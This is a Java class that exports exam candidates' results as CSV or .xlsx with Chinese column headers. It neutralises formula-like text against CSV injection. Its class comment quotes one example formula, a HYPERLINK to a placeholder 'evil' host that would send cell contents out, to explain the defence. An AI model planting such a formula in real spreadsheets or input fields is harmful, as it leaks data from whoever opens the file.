package cn.examcore.server.results;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.ss.usermodel.Font;
import org.apache.poi.ss.usermodel.IndexedColors;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.WorkbookUtil;
import org.apache.poi.xssf.streaming.SXSSFSheet;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;

/**
 * Writes results (成绩) for administrators as CSV or {@code .xlsx}, one row per candidate and subject, with
 * Chinese column headers.
 *
 * <p>CSV is UTF-8 with a byte-order mark: without the mark, Excel on Chinese Windows reads the file as GBK and
 * shows mojibake. Text cells that begin with {@code = + - @}, a tab or a carriage return get a leading
 * apostrophe: Excel and WPS would otherwise run them as formulas, and names, rooms and cancellation reasons are
 * typed by people, so a value like {@code =HYPERLINK("http://evil/?"&A2,"…")} could leak data or run commands
 * on the administrator's machine when the export is opened (CSV injection). Numbers and dates are written by
 * this class, never taken from input, so they are left as they are. In {@code .xlsx} text is stored as a string
 * cell, which Excel never evaluates, so no apostrophe is needed there.
 *
 * <p>Times are shown in the exporter's zone (Asia/Shanghai by default). The {@code .xlsx} is written with POI's
 * streaming workbook, so a city-wide export does not hold every cell in memory.
 */
public final class ResultsExporter {

    /** Column headers, in order, shared by both formats. */
    public static final List<String> HEADERS = List.of("准考证号", "姓名", "身份证号", "职业", "等级", "科目", "考场",
            "座位号", "状态", "客观题得分", "待评阅", "总分", "满分", "是否合格", "交卷时间", "取消原因", "等级结果", "有效期至",
            "证书编号");

    private static final DateTimeFormatter CSV_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss");
    private static final int[] WIDTHS = {16, 10, 20, 16, 12, 10, 10, 8, 14, 11, 8, 8, 8, 10, 20, 30, 10, 12, 24};

    private final ZoneId zone;

    /** An exporter showing times in Asia/Shanghai. */
    public ResultsExporter() {
        this(ZoneId.of("Asia/Shanghai"));
    }

    /** An exporter showing times in {@code zone}. */
    public ResultsExporter(ZoneId zone) {
        this.zone = Objects.requireNonNull(zone, "zone");
    }

    /** The rows as CSV: UTF-8 with BOM, CRLF line ends, Chinese headers, injection-safe text. */
    public byte[] csv(List<ResultRow> rows) {
        Objects.requireNonNull(rows, "rows");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(0xEF);
        bytes.write(0xBB);
        bytes.write(0xBF);
        try (Writer writer = new OutputStreamWriter(bytes, StandardCharsets.UTF_8);
             CSVPrinter printer = new CSVPrinter(writer, CSVFormat.EXCEL)) {
            printer.printRecord(HEADERS);
            for (ResultRow row : rows) {
                Objects.requireNonNull(row, "rows must not contain null");
                List<String> cells = new ArrayList<>(HEADERS.size());
                cells.add(safe(row.ticket()));
                cells.add(safe(row.name()));
                cells.add(safe(row.idNumber()));
                cells.add(safe(row.occupation()));
                cells.add(safe(row.level()));
                cells.add(row.subject().chineseName());
                cells.add(safe(row.room()));
                cells.add(safe(row.seat()));
                cells.add(row.status().chineseLabel());
                cells.add(number(row.objectiveScore()));
                cells.add(row.pendingMarking() ? "是" : "否");
                cells.add(number(row.total()));
                cells.add(number(row.maxScore()));
                cells.add(passed(row.passed()));
                cells.add(row.submittedAt() == null ? "" : CSV_TIME.format(local(row.submittedAt())));
                cells.add(safe(row.cancellationReason()));
                cells.add(levelLabel(row.levelResult()));
                cells.add(row.validUntil() == null ? "" : row.validUntil().toString());
                cells.add(safe(row.certificateNumber()));
                printer.printRecord(cells);
            }
        } catch (IOException e) {
            throw new UncheckedIOException("cannot write results CSV", e);
        }
        return bytes.toByteArray();
    }

    /**
     * The rows as an {@code .xlsx} workbook with one sheet: bold, shaded, frozen header row with a filter; scores
     * as numbers and submission times as dates, so Excel can sort and sum them.
     *
     * @param sheetTitle the sheet's name; characters Excel forbids ({@code []:*?/\}) become spaces and it is cut
     *                   to 31 characters; blank means {@code 成绩}
     */
    public byte[] xlsx(List<ResultRow> rows, String sheetTitle) {
        Objects.requireNonNull(rows, "rows");
        // close() also deletes the temporary files the streaming workbook spills rows to.
        try (SXSSFWorkbook workbook = new SXSSFWorkbook(200); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            CellStyle header = workbook.createCellStyle();
            Font bold = workbook.createFont();
            bold.setBold(true);
            header.setFont(bold);
            header.setFillForegroundColor(IndexedColors.GREY_25_PERCENT.getIndex());
            header.setFillPattern(FillPatternType.SOLID_FOREGROUND);
            CellStyle date = workbook.createCellStyle();
            date.setDataFormat(workbook.createDataFormat().getFormat("yyyy-mm-dd hh:mm:ss"));
            CellStyle day = workbook.createCellStyle();
            day.setDataFormat(workbook.createDataFormat().getFormat("yyyy-mm-dd"));
            CellStyle score = workbook.createCellStyle();
            score.setDataFormat(workbook.createDataFormat().getFormat("0.##"));

            SXSSFSheet sheet = workbook.createSheet(sheetName(sheetTitle));
            Row head = sheet.createRow(0);
            for (int c = 0; c < HEADERS.size(); c++) {
                Cell cell = head.createCell(c);
                cell.setCellValue(HEADERS.get(c));
                cell.setCellStyle(header);
                sheet.setColumnWidth(c, WIDTHS[c] * 256);
            }
            sheet.createFreezePane(0, 1);
            sheet.setAutoFilter(new CellRangeAddress(0, Math.max(rows.size(), 1), 0, HEADERS.size() - 1));

            int r = 1;
            for (ResultRow row : rows) {
                Objects.requireNonNull(row, "rows must not contain null");
                Row line = sheet.createRow(r++);
                int c = 0;
                text(line, c++, row.ticket());
                text(line, c++, row.name());
                text(line, c++, row.idNumber());
                text(line, c++, row.occupation());
                text(line, c++, row.level());
                text(line, c++, row.subject().chineseName());
                text(line, c++, row.room());
                text(line, c++, row.seat());
                text(line, c++, row.status().chineseLabel());
                number(line, c++, row.objectiveScore(), score);
                text(line, c++, row.pendingMarking() ? "是" : "否");
                number(line, c++, row.total(), score);
                number(line, c++, row.maxScore(), score);
                text(line, c++, passed(row.passed()));
                if (row.submittedAt() != null) {
                    Cell cell = line.createCell(c);
                    cell.setCellValue(local(row.submittedAt()));
                    cell.setCellStyle(date);
                }
                c++;
                text(line, c++, row.cancellationReason());
                text(line, c++, levelLabel(row.levelResult()));
                if (row.validUntil() != null) {
                    Cell cell = line.createCell(c);
                    cell.setCellValue(row.validUntil());
                    cell.setCellStyle(day);
                }
                c++;
                text(line, c, row.certificateNumber());
            }
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException("cannot write results workbook", e);
        }
    }

    /** The sheet name Excel will accept for {@code title} (see {@link #xlsx}). */
    public static String sheetName(String title) {
        if (title == null || title.isBlank()) {
            return "成绩";
        }
        String cleaned = title.strip().replaceAll("[\\[\\]:*?/\\\\]", " ").strip();
        // Excel also refuses a name that begins or ends with an apostrophe.
        cleaned = cleaned.replaceAll("^'+|'+$", "").strip();
        if (cleaned.isEmpty()) {
            return "成绩";
        }
        return WorkbookUtil.createSafeSheetName(cleaned.length() > 31 ? cleaned.substring(0, 31) : cleaned);
    }

    /** Neutralises text that a spreadsheet would run as a formula (see the class comment). */
    static String safe(String text) {
        if (text == null || text.isEmpty()) {
            return "";
        }
        char first = text.charAt(0);
        boolean formulaLike = first == '=' || first == '+' || first == '-' || first == '@' || first == '\t'
                || first == '\r';
        return formulaLike ? "'" + text : text;
    }

    private LocalDateTime local(Instant instant) {
        return LocalDateTime.ofInstant(instant, zone);
    }

    private static String number(BigDecimal value) {
        return value == null ? "" : value.stripTrailingZeros().toPlainString();
    }

    /** 等级结果 in words: 合格, 不合格 or 待定 (a subject still open or being marked); empty when unknown. */
    static String levelLabel(String levelResult) {
        if (levelResult == null) {
            return "";
        }
        return switch (levelResult) {
            case "PASSED" -> "合格";
            case "FAILED" -> "不合格";
            case "PENDING" -> "待定";
            default -> levelResult;
        };
    }

    private static String passed(Boolean passed) {
        return passed == null ? "" : passed ? "合格" : "不合格";
    }

    private static void text(Row row, int column, String value) {
        if (value != null && !value.isEmpty()) {
            row.createCell(column).setCellValue(value);
        }
    }

    private static void number(Row row, int column, BigDecimal value, CellStyle style) {
        if (value != null) {
            Cell cell = row.createCell(column);
            cell.setCellValue(value.doubleValue());
            cell.setCellStyle(style);
        }
    }
}
